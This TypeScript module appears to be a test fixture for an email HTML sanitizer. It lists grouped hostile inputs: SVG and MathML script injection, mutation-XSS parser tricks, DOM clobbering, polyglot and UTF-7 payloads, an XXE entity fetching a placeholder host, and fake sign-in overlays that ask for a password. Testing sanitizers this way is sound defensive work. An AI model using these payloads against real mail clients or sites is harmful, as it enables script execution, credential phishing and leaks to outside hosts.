/** Mails that want to be read differently than they are checked. */
import { group } from './hostile-mail.ts'

export const FOREIGN = group('foreign', [
  '<svg onload=%RUN%>',
  '<svg><script>%RUN%</script></svg>',
  '<svg><script href="http://canary.example/s.js"/></svg>',
  '<svg><script xlink:href="data:text/javascript,%RUN%"></script></svg>',
  '<svg><a xlink:href="javascript:%RUN%"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:%RUN%" onbegin=%RUN% begin=0s /></svg>',
  '<svg><set attributeName=onmouseover to=%RUN% onbegin=%RUN% /></svg>',
  '<svg><image href="http://canary.example/i.png" /><image xlink:href="http://canary.example/x.png" /></svg>',
  '<svg><use href="http://canary.example/u.svg#x" /></svg>',
  '<svg><filter id=f><feImage href="http://canary.example/fe.png" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=%RUN%><img src=x onerror=%RUN%></body></foreignObject></svg>',
  '<svg><style>@import "http://canary.example/svg.css";</style></svg>',
  '<svg><style><img src=x onerror=%RUN%></style></svg>',
  '<math href="javascript:%RUN%">x</math>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:%RUN%">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=%RUN%></annotation-xml></math>',
])

export const MUTATION = group('mutation', [
  '<noscript><p title="</noscript><img src=x onerror=%RUN%>"></noscript>',
  '<template><img src=x onerror=%RUN%><script>%RUN%</script></template>',
  '<div><template shadowrootmode=open><link rel=preconnect href="http://canary.example/"><img src=x onerror=%RUN%></template></div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%RUN%&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%RUN%>',
  '<svg></p><style><a id="</style><img src=x onerror=%RUN%>">',
  '<svg><p><style><g title="</style><img src=x onerror=%RUN%>">',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=%RUN%>"></style></annotation-xml></math>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=%RUN%>">',
  '<table><caption><svg><title><style><!--</title><link rel=preconnect href="http://canary.example/">--></style></svg></caption></table>',
  '<xmp><p title="</xmp><img src=x onerror=%RUN%>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=%RUN%>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=%RUN%>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=%RUN%>"></iframe>',
  '<textarea><p title="</textarea><img src=x onerror=%RUN%>"></textarea>',
  '<title><p title="</title><img src=x onerror=%RUN%>"></title>',
  '<!--><img src=x onerror=%RUN%>-->',
  '<!--[if gte mso 9]><img src="http://canary.example/mso.png"><script>%RUN%</script><![endif]-->',
  '<![if !mso]><img src="http://canary.example/notmso.png"><![endif]><![CDATA[<script>%RUN%</script>]]>',
  '<!-- --!><img src=x onerror=%RUN%><!-- -->',
  '<?xml version="1.0"?><?xml-stylesheet href="http://canary.example/s.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://canary.example/e">]><p>&e;</p>',
  '<plaintext><img src=x onerror=%RUN%>',
  '<p title="\u0000"><img src=x onerror\u0000=%RUN%><scr\u0000ipt>%RUN%</script>',
  '<a<b onmouseover=%RUN% autofocus onfocus=%RUN% tabindex=0>x',
  '\ufeff<script>%RUN%</script>\u2028<img src=x onerror=%RUN%>',
  '+ADw-script+AD4-%RUN%+ADw-/script+AD4-<meta charset=utf-7>',
  '<img src=`x` onerror=`%RUN%`><img src="x` `<script>%RUN%</script>"` `>',
  '<ſcript>%RUN%</ſcript><İmg src=x onerror=%RUN%>',
])

export const CLOBBERING = group('clobbering', [
  '<form><input name=remove><input name=getAttributeNames><input name=removeAttribute><input name=attributes></form><img src=x onerror=%RUN%>',
  '<form name=documentElement></form><form name=querySelectorAll></form><form name=body></form><link rel=preconnect href="http://canary.example/">',
  '<img name=createElement><img name=getElementById><img name=location><img name=cookie><link rel=preconnect href="http://canary.example/">',
  '<form onfocus=%RUN% tabindex=0 autofocus><input name=getAttribute><input name=hasAttribute><input name=nodeName><input name=tagName></form>',
  '<a id=parent></a><a id=top href="http://canary.example/"></a><iframe name=parent srcdoc=""></iframe><iframe name=top srcdoc=""></iframe>',
  '<form id=x action="http://canary.example/"><input name=children><input name=childNodes><input name=innerHTML><input name=outerHTML></form><img src=x onerror=%RUN%>',
])

export const PARTS = group('part', [
  '<html ⚡4email><head><script async src="http://canary.example/v0.js"></script></head><body><amp-img src="http://canary.example/a.png"></amp-img></body></html>',
  '<amp-form><form action-xhr="http://canary.example/xhr"></form></amp-form><amp-list src="http://canary.example/list" on="tap:x"></amp-list>',
  '<p>Content-Type: text/html\r\n\r\n--boundary\r\n<script>%RUN%</script></p>',
  'GIF89a/*<svg/onload=%RUN%>*/=1;',
  '%PDF-1.7 <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> <img src="http://canary.example/pdf.png">',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">%RUN%</x:script>',
  '<iframe src="data:application/xhtml+xml,<html xmlns=\'http://www.w3.org/1999/xhtml\'><script>%RUN%</script></html>"></iframe>',
  '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type="frame" src="http://canary.example/vml.png" /></v:rect>',
  '<xml id=x><x><c><![CDATA[<img src=x onerror=%RUN%>]]></c></x></xml><span datasrc=#x datafld=c dataformatas=html></span>',
])

export const OVERLAYS = group('overlay', [
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. <input type=password></div>',
  '<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red">x</div>',
  '<dialog open style="position:fixed;inset:0">Sign in again</dialog>',
  '<style>html,body{transform:translate(-500px,-500px) scale(9)!important;pointer-events:none!important;cursor:none!important}</style>x',
  `<table>${'<tr>'.repeat(4_000)}</table>`,
  '<div>'.repeat(3_000),
  `<p style="${'a'.repeat(200_000)}">x</p>`,
  '<a href="http://canary.example/pressed" target=_top style="position:fixed;inset:0;background:#eef">Press</a>',
  '<style>*{animation:a .001s infinite}@keyframes a{to{rotate:1turn}}</style><p>x</p>',
])
